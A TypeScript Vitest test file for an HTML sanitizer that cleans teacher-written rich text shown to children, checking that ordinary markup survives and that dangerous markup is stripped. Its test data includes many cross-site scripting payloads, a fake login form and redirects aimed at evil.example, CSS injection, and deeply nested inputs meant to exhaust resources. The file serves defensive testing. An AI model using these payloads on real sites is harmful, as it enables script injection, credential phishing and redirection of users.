import { describe, expect, test } from 'vitest'
import { cleanHtml } from './html.ts'

/** Elements that run, load or send something, or hide what follows them. */
const ACTIVE = [
  ['script', 'iframe', 'object', 'embed', 'base', 'meta', 'link', 'style', 'svg', 'math', 'template'],
  ['form', 'input', 'button', 'details', 'noscript', 'body', 'textarea', 'xmp', 'plaintext'],
].flat()

/** Rich text is written by teachers and read by children, in their session: nothing in it may run or lead astray. */

describe('what teachers write stays', () => {
  test.each([
    '<h1>第一课</h1><h2>目标</h2><p>会<u>画</u><s>圆</s></p>',
    '<table><tbody><tr><td colspan="2" rowspan="1">格</td></tr></tbody></table>',
    '<ul><li>甲</li></ul><ol><li>乙</li></ol><blockquote>丙</blockquote><pre><code>print(1)</code></pre>',
    '<p style="color:#ff0000;text-align:center">红</p>',
    '<font color="red" size="5">大</font><center>中</center>',
    '<p class="lead" title="说明" align="right">文</p>',
    '1 &lt; 2 &amp;&amp; 3 &gt; 2',
  ])('%s', (html) => expect(cleanHtml(html)).toBe(html))

  test.each([
    ['<img src="/api/sys/common/static/a.png" alt="图" width="10" />'],
    ['<img src="data:image/png;base64,iVBORw0KGgo=" />'],
    ['<img src="https://pictures.example/a.png" loading="lazy" />'],
    ['<video src="https://video.example/a.mp4" controls="" poster="/a.png"></video>'],
    ['<audio src="/api/sys/common/static/a.mp3" controls=""></audio>'],
  ])('%s', (html) => expect(cleanHtml(html)!.replaceAll('=""', '')).toBe(html.replaceAll('=""', '')))

  test('a link opens without a way back to this window', () =>
    expect(cleanHtml('<a href="https://a.example" target="_blank">看</a>')).toBe(
      '<a href="https://a.example" target="_blank" rel="noopener noreferrer">看</a>',
    ))

  test('and cannot talk its way out of that', () =>
    expect(cleanHtml('<a href="https://a.example" rel="opener">看</a>')).toContain('rel="noopener noreferrer"'))
})

describe('what runs goes', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</script>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">',
    '<img src=x onerror=alert(1)>',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)>',
    '<p onclick="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="javascript:alert(1)">',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object>',
    '<embed src="x">',
    '<form action="https://evil.example"><input name="password"><button>登录</button></form>',
    '<base href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<style>body{display:none}</style>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<video src="data:text/html,x"></video>',
    '<video src="javascript:alert(1)"></video>',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
    '<plaintext>',
    '<xmp><script>alert(1)</script></xmp>',
    '<textarea><script>alert(1)</script></textarea>',
  ])('%s', (html) => {
    const clean = cleanHtml(html)
    expect(clean).not.toMatch(new RegExp(`<(?:${ACTIVE.join('|')})\\b`, 'i'))
    // What stands inside a quoted value is a text.
    expect(clean!.replace(/"[^"]*"/g, '""')).not.toMatch(/<[^>]*\son\w+\s*=/i)
    expect(clean).not.toMatch(/<[^>]*(?:java|vb)script:/i)
    expect(clean).not.toMatch(/<(?:a|video)[^>]*data:/i)
  })

  test('words between the marks stay', () =>
    expect(cleanHtml('<div><blink>你好</blink></div>')).toBe('<div>你好</div>'))

  test('what is cleaned twice is as clean as once', () => {
    for (const html of [
      '<p>a<b>c',
      '<img src=x onerror=alert(1)>',
      '&lt;script&gt;',
      '<a href="https://a.example?x=1&y=2">z</a>',
    ])
      expect(cleanHtml(cleanHtml(html)!)).toBe(cleanHtml(html))
  })
})

describe('styles', () => {
  test.each([
    ['position:fixed;top:0;left:0;width:100%;height:100%', ['width:100%', 'height:100%'], ['position', 'top']],
    ['background-image:url(https://evil.example/a.png)', [], ['url']],
    ['background-color:url(javascript:alert(1))', [], ['javascript']],
    ['color:red;z-index:9999', ['color:red'], ['z-index']],
    ['width:expression(alert(1))', [], ['<']],
    ['color:rgb(1, 2, 3)', ['color:rgb(1, 2, 3)'], []],
    [`color:${'a'.repeat(100)}`, [], ['aaaa']],
  ] as const)('%s', (style, kept, gone) => {
    const clean = cleanHtml(`<p style="${style}">x</p>`)
    for (const text of kept) expect(clean).toContain(text)
    for (const text of gone) expect(clean!.replace('<p', '').replace('</p>', '')).not.toContain(text)
  })
})

describe('what would cost too much is refused', () => {
  const nested = (levels: number, inside = 'x') => `${'<b>'.repeat(levels)}${inside}${'</b>'.repeat(levels)}`

  test('a hundred levels are taken, one more is not', () => {
    expect(cleanHtml(nested(100))).toBe(nested(100))
    expect(cleanHtml(nested(101))).toBeNull()
  })
  test.each([
    ['elements that never close', '<b>x'.repeat(120_000)],
    ['ends of what was never begun', `${'<b>'.repeat(80_000)}${'</i>'.repeat(60_000)}`],
    ['elements that are dropped anyway', '<x>'.repeat(160_000)],
  ])('%s', (_name, html) => expect(cleanHtml(html)).toBeNull())

  test('paragraphs, items and cells without an end are no levels', () => {
    for (const html of ['<p>a', '<li>a', '<br>', '<img src="/a.png">'])
      expect(cleanHtml(html.repeat(1000))).toContain(html.slice(0, 3))
    expect(cleanHtml(`<table>${'<tr><td>a'.repeat(1000)}</table>`)).toContain('<td>a</td>')
  })
})
